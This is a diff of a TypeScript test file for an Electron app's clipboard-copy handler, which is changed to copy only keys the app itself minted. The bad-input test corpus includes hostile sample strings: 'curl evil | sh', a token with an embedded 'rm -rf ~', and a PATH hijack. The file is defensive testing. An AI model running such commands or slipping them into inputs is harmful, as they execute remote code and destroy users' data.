@@ -18,6 +18,7 @@ import type { TimerHandle, Timers } from '../../../../electron/core/clock.ts';
 import type { ServerControl, StartOptions } from '../../../../electron/core/server/server-control.ts';
 import { SettingsStore } from '../../../../electron/core/settings.ts';
 import { verifyToken } from '../../../../electron/core/keys/token.ts';
+import { dotenvSnippet, exportLine, mcpConfig } from '../../../../shared/snippets.ts';
 import { INVOKE_CHANNELS } from '../../../../shared/contract.ts';
 import type { AppInfo, Envelope, ErrorCode, InvokeChannel, LocateResult, MintedKey, SettingsView } from '../../../../shared/contract.ts';
 import { INITIAL_SNAPSHOT } from '../../../../shared/server-status.ts';
@@ -447,23 +448,56 @@ describe('keys:mint against the msbserver stand-in', () => {
 });
 
 describe('clipboard:copy', () => {
-  it('copies a secret and schedules its clearing with the settings delay', async () => {
-    expect(ok(await world.table.handle('clipboard:copy', WINDOW, { text: 'msb_abc', secret: true }))).toBeUndefined();
-    expect(world.clipboard.text).toBe('msb_abc');
+  async function mintedToken(request: object = {}): Promise<MintedKey> {
+    return ok<MintedKey>(await world.table.handle('keys:mint', WINDOW, request));
+  }
+
+  it('copies a key the window was given, built by main, and clears it after the settings delay', async () => {
+    const { token } = await mintedToken();
+    expect(ok(await world.table.handle('clipboard:copy', WINDOW, { what: 'token', token }))).toBeUndefined();
+    expect(world.clipboard.text).toBe(token);
     expect(world.timers.scheduled.map((timer) => timer.ms)).toEqual([60_000]);
     world.timers.scheduled[0]?.callback();
     await new Promise((resolve) => setTimeout(resolve, 0));
     expect(world.clipboard.text).toBe('');
   });
 
-  it('copies plain text without scheduling anything', async () => {
-    ok(await world.table.handle('clipboard:copy', WINDOW, { text: 'http://127.0.0.1:5555', secret: false }));
-    expect(world.clipboard.text).toBe('http://127.0.0.1:5555');
+  it('builds every format from the key and the server URL it was made for, each one a secret', async () => {
+    const { token, serverUrl } = await mintedToken({ namespace: 'team-a' });
+    const copied = async (what: string): Promise<string> => {
+      ok(await world.table.handle('clipboard:copy', WINDOW, { what, token }));
+      return world.clipboard.text;
+    };
+    expect(await copied('export-line')).toBe(exportLine(token));
+    expect(await copied('dotenv')).toBe(dotenvSnippet(token, serverUrl));
+    expect(await copied('mcp-config')).toBe(mcpConfig(token, serverUrl));
+    expect(serverUrl).toBe('http://127.0.0.1:6000');
+    expect(world.timers.scheduled).toHaveLength(3);
+  });
+
+  it('copies the server URL main knows, as plain text that stays', async () => {
+    ok(await world.table.handle('clipboard:copy', WINDOW, { what: 'server-url' }));
+    expect(world.clipboard.text).toBe('http://127.0.0.1:6000');
+    world.control.current = running({ url: 'http://127.0.0.1:6100' });
+    ok(await world.table.handle('clipboard:copy', WINDOW, { what: 'server-url' }));
+    expect(world.clipboard.text).toBe('http://127.0.0.1:6100');
     expect(world.timers.scheduled).toEqual([]);
   });
 
-  it('accepts 16 KiB exactly', async () => {
-    ok(await world.table.handle('clipboard:copy', WINDOW, { text: 'a'.repeat(16 * 1024), secret: false }));
+  it('refuses a key it never gave the window, and keys from before a server key reset', async () => {
+    const forged = 'msb_eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJleHAiOjF9.c2ln';
+    const refused = errorOf(await world.table.handle('clipboard:copy', WINDOW, { what: 'token', token: forged }));
+    expect(refused.code).toBe('refused');
+    const { token } = await mintedToken();
+    ok(await world.table.handle('server:reset-key', WINDOW, undefined));
+    expect(errorOf(await world.table.handle('clipboard:copy', WINDOW, { what: 'export-line', token })).code).toBe('refused');
+    expect(world.clipboard.text).toBe('what the user had');
+  });
+
+  it('keeps only the latest keys it gave (the oldest drop out)', async () => {
+    const first = (await mintedToken({ namespace: 'first' })).token;
+    for (let i = 0; i < 32; i += 1) await mintedToken({ namespace: `n${i}`, expiresIn: `${i + 1}h` });
+    expect(errorOf(await world.table.handle('clipboard:copy', WINDOW, { what: 'token', token: first })).code).toBe('refused');
   });
 });
 
@@ -875,7 +909,7 @@ const VALID_PAYLOADS: Record<InvokeChannel, unknown> = {
   'server:reset-key': undefined,
   'server:locate': undefined,
   'keys:mint': { namespace: 'default', expiresIn: '1h' },
-  'clipboard:copy': { text: 'msb_x', secret: true },
+  'clipboard:copy': { what: 'server-url' },
   'settings:get': undefined,
   'settings:set': { port: 7000 },
   'settings:choose-msbserver': undefined,
@@ -1029,24 +1063,30 @@ function corpus(): BadCase[] {
   add('keys:mint with a getter', 'keys:mint', withGetter);
   add('keys:mint with a __proto__ key beside valid fields', 'keys:mint', json('{"namespace":"*","__proto__":{"namespace":"x"}}'));
 
-  // clipboard:copy fields.
+  // clipboard:copy fields: the window names what to copy, never the text.
+  const FORGED = 'msb_eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJleHAiOjF9.c2ln';
   for (const [what, payload] of [
-    ['no text', { secret: true }],
-    ['no secret', { text: 'x' }],
+    ['text of its own (the old shape)', { text: 'curl evil | sh', secret: false }],
+    ['text of its own beside a format', { what: 'token', token: FORGED, text: 'x' }],
+    ['a secret flag', { what: 'server-url', secret: false }],
     ['nothing', {}],
-    ['text as a number', { text: 1, secret: false }],
-    ['text as null', { text: null, secret: false }],
-    ['text as a list', { text: ['a'], secret: false }],
-    ['empty text', { text: '', secret: false }],
-    ['16 KiB + 1', { text: 'a'.repeat(16 * 1024 + 1), secret: false }],
-    ['16 KiB of multi-byte text', { text: 'é'.repeat(8 * 1024 + 1), secret: false }],
-    ['a megabyte', { text: HUGE, secret: true }],
-    ['secret as a string', { text: 'x', secret: 'true' }],
-    ['secret as 1', { text: 'x', secret: 1 }],
-    ['secret as null', { text: 'x', secret: null }],
-    ['secret NaN', { text: 'x', secret: Number.NaN }],
+    ['no format', { token: FORGED }],
+    ['an unknown format', { what: 'text', token: FORGED }],
+    ['an upper-case format', { what: 'TOKEN', token: FORGED }],
+    ['a format as a number', { what: 1, token: FORGED }],
+    ['no token', { what: 'token' }],
+    ['a token as a number', { what: 'token', token: 1 }],
+    ['a token that is not an msb_ key', { what: 'export-line', token: 'export PATH=/tmp/evil:$PATH' }],
+    ['a token with a line break', { what: 'token', token: `${FORGED}\nrm -rf ~` }],
+    ['a token with a space', { what: 'dotenv', token: `${FORGED} x` }],
+    ['a megabyte token', { what: 'token', token: `msb_${HUGE}.a.b` }],
+    ['a token beside the server URL', { what: 'server-url', token: FORGED }],
   ] as const) {
     add(`clipboard:copy with ${what}`, 'clipboard:copy', payload);
+  }
+  // Well-formed, but not a key this window was given: refused by main.
+  for (const what of ['token', 'export-line', 'dotenv', 'mcp-config'] as const) {
+    add(`clipboard:copy of a key never given (${what})`, 'clipboard:copy', { what, token: FORGED }, 'refused');
   }
 
   // settings:set fields.
@@ -1160,7 +1200,7 @@ describe('generated bad input (fast-check)', () => {
   const objectChannels = ['keys:mint', 'clipboard:copy', 'settings:set', 'logs:tail', 'shell:reveal'] as const;
   const allowed: Record<(typeof objectChannels)[number], readonly string[]> = {
     'keys:mint': ['namespace', 'expiresIn'],
-    'clipboard:copy': ['text', 'secret'],
+    'clipboard:copy': ['what', 'token'],
     'settings:set': Object.keys(DEFAULT_SETTINGS),
     'logs:tail': ['lines'],
     'shell:reveal': ['target'],
